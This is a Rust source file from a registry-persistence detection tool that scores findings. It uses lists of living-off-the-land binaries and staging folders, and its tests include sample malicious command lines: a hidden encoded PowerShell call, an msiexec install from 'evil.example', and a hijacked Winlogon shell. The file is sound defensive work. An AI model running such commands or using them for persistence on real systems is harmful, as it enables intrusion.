//! Triage: what the reference rule's investigation guide asks an analyst to check by hand,
//! computed for every finding from the value data and the key. Each indicator has a name and
//! a short reason; the triage score ranks findings (`--sort score`). Documented in
//! `docs/triage.md`.

use super::Match;
use crate::event::registry::RegistryEvent;
use serde::Serialize;

/// One reason a finding deserves attention.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Indicator {
    /// Stable name, e.g. `lolbin`.
    pub name: &'static str,
    /// Why, with the text that triggered it.
    pub reason: String,
}

/// Points each indicator adds to the severity's risk score (capped at 100).
pub const INDICATOR_POINTS: u8 = 9;

/// Script hosts and living-off-the-land binaries that run attacker content.
const LOLBINS: &[&str] = &[
    "powershell",
    "pwsh",
    "mshta",
    "rundll32",
    "regsvr32",
    "wscript",
    "cscript",
    "certutil",
    "bitsadmin",
];

/// Folders any user can write to, where payloads are staged.
const STAGING: &[&str] = &[
    "\\users\\public\\",
    "\\appdata\\",
    "\\temp\\",
    "\\programdata\\",
    "\\windows\\tasks\\",
    "\\perflogs\\",
    "\\windows\\temp\\",
];

/// The program names in `data`: each whitespace-separated word's final path component,
/// lower-cased, quotes stripped.
fn words(data: &str) -> impl Iterator<Item = String> + '_ {
    data.split(|c: char| c.is_whitespace() || c == ',' || c == ';')
        .map(|w| w.trim_matches(|c| c == '"' || c == '\''))
        .filter(|w| !w.is_empty())
        .map(|w| {
            w.rsplit(['\\', '/'])
                .next()
                .unwrap_or(w)
                .to_ascii_lowercase()
        })
}

/// Whether a word names `program` (`cmd`, `cmd.exe`).
fn is_program(word: &str, program: &str) -> bool {
    word == program || word.strip_suffix(".exe") == Some(program)
}

/// The longest run of base64 characters in `data`.
fn longest_base64_run(data: &str) -> usize {
    data.split(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '='))
        .map(str::len)
        .max()
        .unwrap_or(0)
}

/// Every indicator for a finding.
pub fn indicators(event: &RegistryEvent, matched: &Match) -> Vec<Indicator> {
    let data = event.details.as_deref().unwrap_or("");
    let mut found = command_indicators(data);
    found.extend(location_indicators(event, matched));
    found
}

/// What a command line (value data, a consumer's command) says about itself: script hosts,
/// staging folders, network locations, encoding.
pub fn command_indicators(data: &str) -> Vec<Indicator> {
    let mut found = Vec::new();
    let mut add = |name, reason: String| found.push(Indicator { name, reason });
    let lower = data.to_ascii_lowercase();

    let programs: Vec<String> = words(data).collect();
    if let Some(p) = programs
        .iter()
        .find(|w| LOLBINS.iter().any(|l| is_program(w, l)))
    {
        add(
            "lolbin",
            format!("runs a script host or living-off-the-land binary ({p})"),
        );
    } else if programs.iter().any(|w| is_program(w, "cmd")) && lower.contains("/c") {
        add("lolbin", "runs a command through cmd /c".into());
    } else if programs.iter().any(|w| is_program(w, "msiexec")) && lower.contains("http") {
        add("lolbin", "msiexec installs a package from a URL".into());
    }
    if let Some(folder) = STAGING.iter().find(|f| lower.contains(*f)) {
        add(
            "staging_folder",
            format!(
                "payload in a user-writable folder ({})",
                folder.trim_matches('\\')
            ),
        );
    }
    if lower.contains("http://") || lower.contains("https://") {
        add("network_location", "payload fetched from a URL".into());
    } else if lower.trim_start_matches(['"', '\'']).starts_with("\\\\") || lower.contains(" \\\\") {
        add(
            "network_location",
            "payload on a network share (UNC path)".into(),
        );
    }
    let encoded_flag = programs.iter().any(|w| {
        matches!(
            w.as_str(),
            "-enc" | "-encodedcommand" | "-e" | "-ec" | "/enc" | "/encodedcommand"
        )
    });
    if encoded_flag || lower.contains("frombase64string") {
        add(
            "encoded_command",
            "encoded or obfuscated command (-EncodedCommand / FromBase64String)".into(),
        );
    } else if longest_base64_run(data) >= 40 {
        add("encoded_command", "long base64 run in the data".into());
    }
    found
}

/// What the location written and the writer say: a replaced Winlogon shell, a service binary
/// outside the system folders, a provider host running from an odd place.
fn location_indicators(event: &RegistryEvent, matched: &Match) -> Vec<Indicator> {
    let mut found = Vec::new();
    let mut add = |name, reason: String| found.push(Indicator { name, reason });
    let data = event.details.as_deref().unwrap_or("");
    let lower = data.to_ascii_lowercase();
    let value = matched
        .value_name
        .as_deref()
        .unwrap_or("")
        .to_ascii_lowercase();
    if matched.detection.id == "winlogon_shell" && !data.is_empty() {
        let trimmed = lower.trim();
        if value == "shell" && !matches!(trimmed, "explorer.exe" | "c:\\windows\\explorer.exe") {
            add(
                "shell_replaced",
                format!("Winlogon Shell is not explorer.exe ({})", data.trim()),
            );
        }
        if value == "userinit"
            && !matches!(
                trimmed,
                "userinit.exe," | "c:\\windows\\system32\\userinit.exe,"
            )
        {
            add(
                "shell_replaced",
                format!("Userinit is not userinit.exe, ({})", data.trim()),
            );
        }
    }
    if matched.detection.id == "service_image" && !data.is_empty() {
        let path = lower.trim_start_matches(['"', '\'']);
        let standard = [
            "c:\\windows\\system32\\",
            "%systemroot%\\system32\\",
            "\\systemroot\\system32\\",
            "system32\\",
            "c:\\program files\\",
            "c:\\program files (x86)\\",
        ]
        .iter()
        .any(|p| path.starts_with(p));
        if !standard {
            add(
                "service_outside_system",
                format!(
                    "service binary outside System32 and Program Files ({})",
                    data.trim()
                ),
            );
        }
    }
    if matched.unusual_image {
        add(
            "unusual_writer",
            format!("the writer runs from an unusual location ({})", event.image),
        );
    }
    found
}

/// The triage score: the severity's risk score plus points per indicator, at most 100.
pub fn score(risk_score: u8, indicators: &[Indicator]) -> u8 {
    let extra = INDICATOR_POINTS.saturating_mul(u8::try_from(indicators.len()).unwrap_or(u8::MAX));
    risk_score.saturating_add(extra).min(100)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::Matcher;

    fn names(target: &str, data: &str, image: &str) -> Vec<&'static str> {
        let event = RegistryEvent {
            details: Some(data.into()),
            ..RegistryEvent::sample(13, "SetValue", image, target)
        };
        let matched = Matcher::new().find_match(&event).expect("a finding");
        indicators(&event, &matched)
            .into_iter()
            .map(|i| i.name)
            .collect()
    }

    const WMI: &str = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
    const RUN: &str = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x";
    const SVC: &str = "HKLM\\SYSTEM\\CurrentControlSet\\Services\\x\\ImagePath";
    const SHELL: &str = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell";
    const USERINIT: &str =
        "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit";

    #[test]
    fn lolbins_and_staging() {
        assert_eq!(names(RUN, "rundll32.exe a.dll, DllMain", WMI), ["lolbin"]);
        assert_eq!(names(RUN, "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -enc SQBFAFgA", WMI), ["lolbin", "encoded_command"]);
        assert_eq!(
            names(RUN, "cmd.exe /c start C:\\Users\\Public\\a.bat", WMI),
            ["lolbin", "staging_folder"]
        );
        assert_eq!(
            names(RUN, "msiexec /q /i https://evil.example/a.msi", WMI),
            ["lolbin", "network_location"]
        );
        assert_eq!(
            names(RUN, "C:\\Program Files\\Vendor\\agent.exe", WMI),
            Vec::<&str>::new()
        );
        assert_eq!(
            names(RUN, "\\\\10.0.0.5\\share\\a.exe", WMI),
            ["network_location"]
        );
        assert_eq!(
            names(RUN, "C:\\ProgramData\\x.exe", "C:\\Temp\\WmiPrvSE.exe"),
            ["staging_folder", "unusual_writer"]
        );
        let b64 = "A".repeat(44);
        assert_eq!(
            names(RUN, &format!("x.exe {b64}"), WMI),
            ["encoded_command"]
        );
        assert_eq!(
            names(RUN, "pwsh -c [Convert]::FromBase64String('x')", WMI),
            ["lolbin", "encoded_command"]
        );
    }

    #[test]
    fn winlogon_and_services() {
        assert!(names(SHELL, "explorer.exe", WMI).is_empty());
        assert_eq!(
            names(SHELL, "explorer.exe, evil.exe", WMI),
            ["shell_replaced"]
        );
        assert!(names(USERINIT, "C:\\Windows\\system32\\userinit.exe,", WMI).is_empty());
        assert_eq!(
            names(
                USERINIT,
                "C:\\Windows\\system32\\userinit.exe, C:\\x.exe",
                WMI
            ),
            ["shell_replaced"]
        );
        assert!(names(SVC, "\"C:\\Program Files\\Vendor\\svc.exe\" -k", WMI).is_empty());
        assert!(names(SVC, "%SystemRoot%\\System32\\svchost.exe -k netsvcs", WMI).is_empty());
        assert_eq!(
            names(SVC, "C:\\Windows\\Temp\\svc.exe", WMI),
            ["staging_folder", "service_outside_system"]
        );
    }

    #[test]
    fn score_adds_points_and_caps() {
        let one = [Indicator {
            name: "lolbin",
            reason: String::new(),
        }];
        assert_eq!(score(73, &[]), 73);
        assert_eq!(score(73, &one), 82);
        assert_eq!(
            score(
                73,
                &[
                    one[0].clone(),
                    one[0].clone(),
                    one[0].clone(),
                    one[0].clone()
                ]
            ),
            100
        );
        assert_eq!(score(21, &one), 30);
    }
}
